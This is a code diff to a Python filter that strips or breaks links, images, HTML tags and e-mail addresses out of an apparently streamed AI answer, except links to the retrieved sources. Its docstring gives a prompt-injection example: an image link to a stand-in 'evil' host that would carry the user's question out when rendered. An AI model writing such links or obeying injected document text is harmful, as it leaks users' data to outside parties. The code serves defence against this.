@@ -1,11 +1,13 @@
-"""An answer's links and pictures: none but to the sources' own addresses leaves the service.
+"""Filter for an answer's links and pictures.
 
-A model that obeys a hostile document would write `![](http://evil/?q=what-was-said)`, and a
-front end that renders it would send what was said there. So what Markdown (CommonMark, and
-GitHub's bare addresses) or HTML would make a link, a picture or a tag of is changed into text
-that reads nearly the same, in code too: some front ends run what stands there.
+A model that obeys a hostile document would write `![](http://evil/?q=what-was-asked)`, and a
+front end that renders it would send the question there. So an answer holds no picture, since
+a browser loads it without a click, and no link but to an http(s) address of the turn's own
+documents. Whatever Markdown (CommonMark, and the bare addresses of GitHub's flavour) or HTML
+would render as another link, a picture or a tag gets a space where it breaks; nothing is ever
+taken out, so that no two parts join into a link. In code too: some front ends run code.
 
-Our own filter rather than a sanitiser: those take whole HTML, and this is Markdown in pieces.
+Our own filter rather than a sanitiser: those take whole HTML, and this is Markdown in deltas.
 """
 
 import re
@@ -16,29 +18,36 @@ from msgspec.structs import replace
 
 from app.events import Event, Failed, Retrieved, RouteChosen, TextDelta, ToolRan
 
+# What comes before the @ of an e-mail address, as GitHub's flavour and linkify-it have it.
+_LOCAL_PART = r"\w.+\-;:&=$,"
 _TOKEN = re.compile(
-    r"(?P<inline>\](?=\())"  # of [text](address)
+    r"(?P<picture>!(?=\[))"
+    r"|(?P<inline>\](?=\())"  # of [text](address)
     r"|(?P<definition>\](?=:))"  # of [name]: address
     r"|(?P<tag><(?=[a-z/!?])(?!br ?/?>|b(?:r ?/?)?\Z))"
-    r"|(?P<reference>&(?=\#|(?:colon|sol|period);))"  # what hides the next three
-    r"|(?P<scheme>(?<![a-z0-9])https?:\\?/\\?/)"
+    r"|(?P<reference>&(?=\#|(?:colon|sol|period|commat);))"  # what hides those below
+    r"|(?P<scheme>(?<![a-z0-9])https?:\\?/(?=\\?/))"
     r"|(?P<slash>/(?=\\?/))"
-    r"|(?P<www>(?<=www)\\?\.)",
+    r"|(?P<www>(?<=www)\\?\.)"
+    rf"|(?P<mail>(?:(?<=[{_LOCAL_PART}])|(?<=[{_LOCAL_PART}]\"))\\?@)",
     re.IGNORECASE,
 )
-_BEHIND = 3
-"""Characters that a token looks back on."""
-_SPACED = {"inline": "] ", "definition": "] ", "tag": "< ", "reference": "& ", "slash": "/ "}
+_BEHIND = 8
+"""Characters of what was given out that a token looks back on, or that it may begin in."""
 
-_MAY_BEGIN_A_TOKEN = re.compile(r"[\]<&h/.\\]", re.IGNORECASE)
+_MAY_BEGIN_A_TOKEN = re.compile(r"[!\]<&h/.\\@]", re.IGNORECASE)
 # An end of text that may be the beginning of a token.
 _PARTIAL = re.compile(
-    r"(?:\]|<(?:b(?:r ?/?)?)?|/\\?|(?<=www)\\"
-    r"|&(?:c(?:o(?:l(?:on?)?)?)?|s(?:ol?)?|p(?:e(?:r(?:i(?:od?)?)?)?)?)?"
+    r"(?:!|\]|<(?:b(?:r ?/?)?)?|/?\\|/"
+    r"|&(?:c(?:o(?:l(?:on?)?|m(?:m(?:at?)?)?)?)?|s(?:ol?)?|p(?:e(?:r(?:i(?:od?)?)?)?)?)?"
     r"|(?<![a-z0-9])h(?:t(?:t(?:ps?(?::\\?/?\\?)?)?)?)?)\Z",
     re.IGNORECASE,
 )
+# The same, without the schemes, whose slashes are tokens too.
+_DANGLING = re.compile(r"(?:[!\]\\/]|<(?:b(?:r ?/?)?)?|&[a-z]*)\Z", re.IGNORECASE)
+_UNFINISHED_TAG = re.compile(r"<(?=b(?:r ?/?)?\Z)", re.IGNORECASE)
 _ADDRESS = re.compile(r"https?://[^\s<>()\[\]\"'`\\]{1,2000}")
+_ADDRESS_AT_END = re.compile(r"https?://\S{0,2010}\Z")
 # What may follow an address without being part of it: whatever else did would be, where the
 # brackets before it make no link after all. White space is ASCII's: of the rest each renderer
 # has its own idea.
@@ -46,12 +55,16 @@ _END_OF_ADDRESS = re.compile(r"[.,;:!?)\]*_~'\">]{0,3}(?:[ \t\n\v\f\r]|(?P<open>
 
 
 class LinkFilter:
-    """Text in, in any pieces; the same text out, less its links. Holds back as little as it can."""
+    """Text in, in any deltas; the same text out, less its links. Holds back as little as it can.
 
-    def __init__(self) -> None:
+    `before` is the text that the output continues.
+    """
+
+    def __init__(self, before: str = "") -> None:
         self._allowed: list[str] = []
-        self._text = ""
-        self._at = 0  # what stands before was given out
+        self._text = before
+        self._at = len(before)  # the text before it was given out
+        self._interrupted = bool(before)
 
     def allow(self, addresses: Iterable[str | None]) -> None:
         """Let links to these pass, letter by letter as they are here."""
@@ -61,8 +74,9 @@ class LinkFilter:
 
     def feed(self, text: str) -> str:
         """What can be given out now; may be empty."""
-        if self._at == len(self._text) and not _MAY_BEGIN_A_TOKEN.search(text):
-            # Most pieces of most answers.
+        held_back = self._interrupted or self._at < len(self._text)
+        if not held_back and not _MAY_BEGIN_A_TOKEN.search(text):
+            # Most deltas of most answers.
             self._text = self._text[-_BEHIND:] + text
             self._at = len(self._text)
             return text
@@ -70,9 +84,13 @@ class LinkFilter:
 
     def end(self) -> str:
         """What was held back, once nothing follows it."""
-        return self._take("", final=True)
+        out = self._take("", final=True)
+        self._interrupted = True
+        return out
 
     def _take(self, more: str, *, final: bool) -> str:
+        if self._interrupted and more:
+            more = self._apart(more)
         text = self._text = self._text[max(0, self._at - _BEHIND) :] + more
         at = min(self._at, _BEHIND)
         out: list[str] = []
@@ -82,14 +100,21 @@ class LinkFilter:
             if kept is None:
                 end = token.start()
                 break
-            out += text[at : token.start()], kept or self._spaced(token)
+            out += text[at : token.start()], kept or _spaced(token)
             at = token.start() + len(kept) if kept else token.end()
         if end is None:
             partial = None if final else _PARTIAL.search(text, at)
             end = partial.start() if partial else len(text)
-        out.append(text[at:end])
+        rest = text[at:end]
+        out.append(_UNFINISHED_TAG.sub("< ", rest) if final else rest)
         self._at = end
         return "".join(out)
+
+    def _apart(self, more: str) -> str:
+        """`more`, behind a space where it could make a link of the end that was given out."""
+        self._interrupted = False
+        open_end = _DANGLING.search(self._text) or _ADDRESS_AT_END.search(self._text)
+        return f" {more}" if open_end and more[0] not in " \t\n\v\f\r" else more
 
     def _kept(self, token: re.Match[str], *, final: bool) -> str | None:
         """What of the text passes as a link to a source; None: more text will tell."""
@@ -105,10 +130,10 @@ class LinkFilter:
             undecided = undecided or link.startswith(rest)
         return None if undecided and not final else ""
 
-    @staticmethod
-    def _spaced(token: re.Match[str]) -> str:
-        kind = token.lastgroup or ""
-        return _SPACED.get(kind) or ("" if kind == "scheme" else f"{token[0]} ")
+
+def _spaced(token: re.Match[str]) -> str:
+    """The token with a space where it breaks."""
+    return f" {token[0]}" if token.lastgroup == "mail" else f"{token[0]} "
 
 
 async def without_strange_links(
@@ -118,7 +143,7 @@ async def without_strange_links(
 
     `before` is what the caller had of the answer already.
     """
-    links = LinkFilter()
+    links = LinkFilter(before)
     said = [before]
     async with aclosing(events):
         async for event in events:
